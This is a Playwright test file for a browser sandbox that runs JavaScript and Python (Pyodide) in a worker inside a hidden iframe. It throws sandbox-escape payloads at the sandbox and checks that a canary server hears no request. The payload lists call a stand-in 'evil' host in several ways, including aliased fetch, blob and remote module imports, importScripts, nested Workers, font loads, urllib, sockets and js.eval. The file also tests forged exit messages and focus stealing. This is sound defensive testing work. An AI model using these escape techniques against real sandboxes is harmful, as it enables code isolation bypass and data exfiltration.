import type { Page } from '@playwright/test'
import { expect, type Server, test } from './fixture'
import { attacks } from './sandbox-attacks.mjs'

/** What a program may also try that knows it runs in this worker. `E` is the canary's address. */
const ofWorkers = (evil: string): [name: string, code: string][] => [
  ['fetch by another name', `await Function('return this')().fetch('http://${evil}/x')`],
  ['fetch of a prototype', `for (let o = globalThis; o; o = Object.getPrototypeOf(o)) if (Object.hasOwn(o, 'fetch')) await o.fetch('http://${evil}/x')`],
  ['a module of a blob', `await import(URL.createObjectURL(new Blob(["await fetch('http://${evil}/x')"], { type: 'text/javascript' })))`],
  ['a module of a URL', `await import('http://${evil}/x.js')`],
  ['a static import', `import x from 'http://${evil}/x.js'`],
  ['importScripts', `importScripts('http://${evil}/x.js')`],
  ['an unblocked constructor', `const { Worker } = self.constructor.prototype; new Worker(URL.createObjectURL(new Blob(["fetch('http://${evil}/x')"])))`],
  ['a forged end', `postMessage({ type: 'exit', code: 0 })`],
  ['a forged end by event', `dispatchEvent(new MessageEvent('message', { data: { type: 'run' } }))`],
  ['a broken platform', `Array.prototype.push = Map.prototype.get = () => { throw 1 }; Object.prototype.type = 'exit'; console.log('still here')`],
  ['a request with credentials', `new Request('http://${evil}/x', { keepalive: true }).json()`],
  ['a font', `await new FontFace('x', 'url(http://${evil}/x)').load()`],
]

const ofPython = (evil: string): [name: string, code: string][] => [
  ['urllib', `import urllib.request\nurllib.request.urlopen('http://${evil}/x')`],
  ['a socket', `import socket\nsocket.create_connection(('${evil.split(':')[0]}', ${evil.split(':')[1]}))`],
  ['pyodide.http', `import pyodide.http\npyodide.http.open_url('http://${evil}/x')`],
  ['pyfetch', `import asyncio, pyodide.http\nasyncio.run(pyodide.http.pyfetch('http://${evil}/x'))`],
  ['js.fetch', `import js\njs.fetch('http://${evil}/x')`],
  ['js.eval', `import js\njs.eval("import('http://${evil}/x')")`],
  ['a package', `import micropip`],
  ['the module behind pyodide', `import pyodide_js\npyodide_js.loadPackage('http://${evil}/x.whl')`],
]

test.describe.configure({ timeout: 300_000 })

test('no attack of the corpus leaves the worker', async ({ lab }) => {
  const { evil, app, stun } = lab.server
  for (const [name, code] of attacks({ evil, app, stun })) {
    const { exit } = await lab.run('javascript', `const attack = async () => { ${code} }\nconsole.log(await attack())`)
    expect(exit, name).toBeTruthy()
  }
  await nothingIsHeard(lab.page, lab.server)
})

test('no attack on this worker leaves it', async ({ lab }) => {
  for (const [name, code] of ofWorkers(lab.server.evil)) {
    const { out, exit } = await lab.run('javascript', code)
    expect(exit, name).toMatchObject({ reason: expect.stringMatching(/exit|crashed/) })
    expect(out.join(), name).not.toContain('heard')
  }
  for (const [name, code] of ofPython(lab.server.evil)) {
    const { out, exit } = await lab.run('python', code)
    expect(exit, name).toBeTruthy()
    expect(out.join(), name).not.toContain('heard')
  }
  expect((await lab.run('javascript', 'console.log("fine")')).out).toEqual(['fine'])
  await nothingIsHeard(lab.page, lab.server)
})

/** The wall behind the worker: what if a program reached the frame, or a worker that nothing was deleted in? */
test('no attack leaves the frame either', async ({ lab }) => {
  const { evil, app, stun } = lab.server
  const all = attacks({ evil, app, stun })
  await inFrame(lab.page, all.filter(([, , navigates]) => !navigates).map(([, code]) => code))
  for (const [, code] of all.filter(([, , navigates]) => navigates)) {
    await lab.page.goto(lab.server.origin)
    await inFrame(lab.page, [code])
  }
  await nothingIsHeard(lab.page, lab.server)
})

test('the frame is out of reach of the keyboard and of the eye', async ({ lab }) => {
  await lab.prepare('javascript')
  const frame = lab.page.locator('iframe')
  await expect(frame).toBeHidden()
  expect(await frame.evaluate((element: HTMLIFrameElement) => [element.sandbox.value, element.allow, element.referrerPolicy])).toEqual([
    'allow-scripts',
    'cross-origin-isolated',
    'no-referrer',
  ])
  await lab.page.locator('#typing').focus()
  await steal(lab.page, (thief) => thief.focus())
  await lab.page.keyboard.type('x'.repeat(100))
  await expect(lab.page.locator('#typing')).toHaveValue('x'.repeat(100))
})

test('a frame that takes the focus is removed, and running goes on', async ({ lab }) => {
  await lab.prepare('javascript')
  await lab.page.locator('#typing').focus()
  await steal(lab.page, () => window.focus())
  await expect(lab.page.locator('iframe')).toHaveCount(0)
  expect((await lab.run('javascript', 'console.log("again")')).out).toEqual(['again'])
})

test('the frame listens to its parent once, and to nobody else', async ({ lab }) => {
  await lab.prepare('javascript')
  const answered = await lab.page.evaluate(async () => {
    const { port1, port2 } = new MessageChannel()
    const heard = new Promise((answer) => {
      port1.onmessage = () => answer(true)
    })
    document.querySelector('iframe')?.contentWindow?.postMessage('hotseat-runner-port', '*', [port2])
    await lab.run('javascript', 'await new Promise((done) => setTimeout(done, 200))')
    return Promise.race([heard, Promise.resolve(false)])
  })
  expect(answered).toBe(false)
})

async function steal(page: Page, how: (thief: HTMLElement) => void): Promise<void> {
  const frame = page.frames().find((candidate) => candidate.url().endsWith('/runner/'))
  // A frame that is removed for it takes the answer with it.
  await frame
    ?.evaluate(`(${how})(document.body.appendChild(document.createElement('input')))`)
    .catch((failure: Error) => expect(failure.message).toContain('detached'))
}

/** Every attack at once, in the frame's window and in a bare worker of it; each gets two seconds. */
async function inFrame(page: Page, codes: string[]): Promise<void> {
  await page.evaluate(() => lab.runner.prepare('javascript'))
  const frame = page.frames().find((candidate) => candidate.url().endsWith('/runner/'))
  if (frame === undefined) throw new Error('no runner')
  const attack = (list: string[]) => {
    const patience = () => new Promise((done) => setTimeout(done, 2_000))
    const tries = list.flatMap((code) => {
      const body = `(async () => { ${code} })()`
      const worker = () => new Worker(URL.createObjectURL(new Blob([body])))
      return [() => globalThis.eval(body) as Promise<unknown>, worker]
    })
    const caught = tries.map(async (act) => {
      try {
        await act()
      } catch {
        // Refused, as it should be; what counts is what the canary hears.
      }
    })
    return Promise.race([patience(), Promise.all(caught).then(patience)])
  }
  // A frame that navigates away takes the answer with it.
  await Promise.race([frame.evaluate(attack, codes).catch(() => undefined), page.waitForTimeout(3_000)])
}

async function nothingIsHeard(page: Page, server: Server): Promise<void> {
  // A request that was sent arrives before this one is answered: same machine, and later.
  await page.evaluate(() => fetch('/runtimes/runtimes.json', { cache: 'no-store' }).then((response) => response.text()))
  expect(server.heard).toEqual([])
}
